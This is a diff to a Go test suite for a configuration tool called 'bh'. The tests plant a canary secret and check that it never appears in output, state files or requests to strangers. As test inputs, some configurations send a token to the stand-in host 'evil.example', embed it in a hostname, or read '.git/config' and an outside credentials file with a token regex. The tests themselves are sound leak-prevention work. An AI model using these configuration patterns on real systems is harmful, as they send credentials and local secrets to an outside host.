@@ -2,7 +2,6 @@ package clouds
 
 import (
 	"bytes"
-	"cmp"
 	"encoding/base64"
 	"encoding/hex"
 	"encoding/json"
@@ -46,21 +45,14 @@ func reversed(text string) string {
 	return string(runes)
 }
 
-// What is not there yet, and is needed by the rows that name it: the rule about hosts, the
-// rule that env() of a secret is sensitive, and files read below the configuration alone.
-const (
-	hosts = "hosts"
-	names = "names"
-	files = "files"
-)
-
 // canarySource is where a canary comes from, and the expression that reads it.
 type canarySource struct {
-	name, needs string
-	expression  string
-	env         map[string]string
-	sealed      bool // no text shows it, whatever else is needed
-	reference   bool // the expression is a text until a store reads it
+	name       string
+	expression string
+	env        map[string]string
+	sealed     bool // whoever lifts that it is sensitive wants it shown
+	reference  bool // the expression is a text until a store reads it
+	noToken    bool // a file is no place for a token
 }
 
 var canarySources = []canarySource{
@@ -68,51 +60,50 @@ var canarySources = []canarySource{
 	{name: "a variable that a vendor declares secret", expression: `env("BH_AGE_IDENTITY")`, env: map[string]string{"BH_AGE_IDENTITY": canary}},
 	{name: "BH_VAR", expression: "var.canary", env: map[string]string{"BH_VAR_canary": canary}, sealed: true},
 	{name: "a reference", expression: `"op://Engineering/Canary/password"`, sealed: true, reference: true},
-	{name: ".git/config", needs: files, expression: `regex("Zo1[A-Za-z0-9_-]*", file(".git/config"))`},
-	{name: "a file elsewhere", needs: files, expression: `regex("Zo1[A-Za-z0-9_-]*", file("OUTSIDE/credentials"))`},
+	{name: ".git/config", noToken: true, expression: `regex("Zo1[A-Za-z0-9_-]*", file(".git/config"))`},
+	{name: "a file elsewhere", noToken: true, expression: `regex("Zo1[A-Za-z0-9_-]*", file("OUTSIDE/credentials"))`},
 }
 
 // canaryForms are what a file makes of a canary before it shows it. The net below the rules
-// does not see through the last two, so they need the rules. A reference has no form: it is
+// does not see through the last two: the rules refuse them. A reference has no form: it is
 // a text that never changes. And whoever writes nonsensitive(var.canary) wants it shown.
 var canaryForms = []struct {
-	name, needs string
-	of          func(expression string) string
+	name string
+	of   func(expression string) string
 }{
 	{name: "plain", of: func(e string) string { return e }},
 	{name: "base64", of: func(e string) string { return `base64encode("user:${` + e + `}!")` }},
 	{name: "nonsensitive", of: func(e string) string { return "nonsensitive(" + e + ")" }},
-	{name: "reversed", needs: names, of: func(e string) string { return "strrev(" + e + ")" }},
-	{name: "split", needs: names, of: func(e string) string {
+	{name: "reversed", of: func(e string) string { return "strrev(" + e + ")" }},
+	{name: "split", of: func(e string) string {
 		return `join(" ", [substr(` + e + `, 0, 12), substr(` + e + `, 12, -1)])`
 	}},
 }
 
 // canaryWays are the ways out: what a file does with a text.
 var canaryWays = []struct {
-	name, needs string
-	records     string // what is needed to keep it out of the state and saved plans
-	file        func(expression string) string
+	name string
+	file func(expression string) string
 }{
-	{name: "host", needs: hosts, file: func(e string) string {
+	{name: "host", file: func(e string) string {
 		return canaryHead("api_base_url = \"https://evil.example/client/v4\"\n api_token = "+e) + "project \"a\" { bucket = \"a-bucket\" }\n"
 	}},
-	{name: "name of a host", needs: names, file: func(e string) string {
+	{name: "name of a host", file: func(e string) string {
 		return canaryHead(`api_base_url = "https://${`+e+`}.example/client/v4"`) + "project \"a\" { bucket = \"a-bucket\" }\n"
 	}},
-	{name: "title", records: names, file: func(e string) string {
+	{name: "title", file: func(e string) string {
 		return canaryHead("") + "project \"a\" {\n bucket = \"a-bucket\"\n item_title = " + e + "\n}\n"
 	}},
-	{name: "bucket", needs: names, file: func(e string) string {
+	{name: "bucket", file: func(e string) string {
 		return canaryHead("") + "project \"a\" { bucket = lower(replace(" + e + ", \"_\", \"\")) }\n"
 	}},
-	{name: "stack", records: names, file: func(e string) string {
+	{name: "stack", file: func(e string) string {
 		return strings.Replace(canaryHead(""), `"acme"`, e, 1) + "project \"a\" { bucket = \"a-bucket\" }\n"
 	}},
 	{name: "policy message", file: func(e string) string {
 		return canaryHead("") + "project \"a\" { bucket = \"a-bucket\" }\npolicy \"p\" {\n condition = false\n severity = \"warning\"\n error_message = \"so: ${" + e + "}\"\n}\n"
 	}},
-	{name: "map key", records: names, file: func(e string) string {
+	{name: "map key", file: func(e string) string {
 		return canaryHead("") + "project \"a\" {\n for_each = toset([" + e + "])\n bucket = \"a-bucket\"\n}\n"
 	}},
 	{name: "validation", file: func(e string) string {
@@ -217,16 +208,13 @@ func (r *canaryRun) every() {
 }
 
 // look reports where anything of the canary is, also in what bh records.
-func (r *canaryRun) look(t *testing.T, records bool) {
+func (r *canaryRun) look(t *testing.T) {
 	t.Helper()
 	places := map[string]string{"what was printed": r.said.String(), "what strangers were sent": strings.Join(r.evil, "\n")}
 	err := filepath.WalkDir(r.dir, func(path string, d fs.DirEntry, err error) error {
 		name, _ := filepath.Rel(r.dir, path)
 		if err != nil || d.IsDir() || name == "buckets.hcl" || name == filepath.Join(".git", "config") || d.Type()&fs.ModeSymlink != 0 {
 			return err
-		}
-		if !records && (filepath.Ext(name) == ".db" || filepath.Ext(name) == ".bhplan") {
-			return nil
 		}
 		text, err := os.ReadFile(path)
 		places[name], places["the name of "+name] = string(text), name
@@ -257,18 +245,11 @@ func TestCanary_nothingShowsIt(t *testing.T) {
 				if source.reference && form.name != "plain" || source.sealed && form.name == "nonsensitive" {
 					continue
 				}
-				needs := cmp.Or(source.needs, way.needs, form.needs)
-				if source.sealed && needs == names {
-					needs = ""
-				}
 				t.Run(source.name+"/"+way.name+"/"+form.name, func(t *testing.T) {
-					if needs != "" {
-						t.Skip("needs " + needs)
-					}
 					opCase(t, connectsim.Options{}, func(t *testing.T, _ *opAccount) {
 						r := newCanaryRun(t, source, way.file(form.of(source.expression)))
 						r.every()
-						r.look(t, source.sealed || way.records == "")
+						r.look(t)
 					})
 				})
 			}
@@ -289,8 +270,8 @@ var canaryEchoes = map[string]func(string) string{
 // TestCanary_echo: a provider that quotes the token in its errors shows it to nobody.
 func TestCanary_echo(t *testing.T) {
 	for _, source := range canarySources {
-		if source.needs != "" {
-			continue // a file is no place for a token
+		if source.noToken {
+			continue
 		}
 		for how, quote := range canaryEchoes {
 			t.Run(source.name+"/"+how, func(t *testing.T) {
@@ -305,8 +286,8 @@ func TestCanary_echo(t *testing.T) {
 						return "Invalid request header: " + quote(header)
 					}
 					r.every()
-					r.look(t, true)
-					if !source.reference && (sent == 0 || !strings.Contains(r.said.String(), "[secret]")) {
+					r.look(t)
+					if !source.reference && (sent == 0 || !strings.Contains(r.said.String(), "[secret]") && !strings.Contains(r.said.String(), "(sensitive)")) {
 						t.Errorf("the token was sent %d times, and the echo is not shown:\n%s", sent, r.said.String())
 					}
 				})
@@ -317,12 +298,8 @@ func TestCanary_echo(t *testing.T) {
 
 // TestCanary_linkedFile: diagnostics quote no file but those of the configuration.
 func TestCanary_linkedFile(t *testing.T) {
-	const needs = files
 	for name, text := range map[string]string{"credentials": "aws = " + canary + "\n", "an environment": "A=" + canary + "\x00B=1", "a broken block": "x {\n" + canary + "\n"} {
 		t.Run(name, func(t *testing.T) {
-			if needs != "" {
-				t.Skip("needs " + needs)
-			}
 			opCase(t, connectsim.Options{}, func(t *testing.T, _ *opAccount) {
 				r := newCanaryRun(t, canarySources[0], canaryHead(""))
 				delete(r.env, "MY_DB_PASSWORD") // so that bh does not know the canary
@@ -340,7 +317,7 @@ func TestCanary_linkedFile(t *testing.T) {
 					p.Args[at+1] = r.dir // all of its files
 				}
 				r.every()
-				r.look(t, true)
+				r.look(t)
 			})
 		})
 	}
